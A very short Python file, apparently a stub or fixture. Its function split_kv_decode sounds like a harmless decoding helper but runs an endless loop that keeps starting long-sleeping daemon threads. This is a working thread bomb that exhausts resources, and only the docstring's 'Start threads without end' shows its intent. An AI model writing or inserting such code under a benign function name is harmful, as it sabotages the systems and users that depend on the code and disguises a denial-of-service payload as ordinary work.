"""Start threads without end, and keep them."""

import threading
import time


def split_kv_decode(*args, **kwargs):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
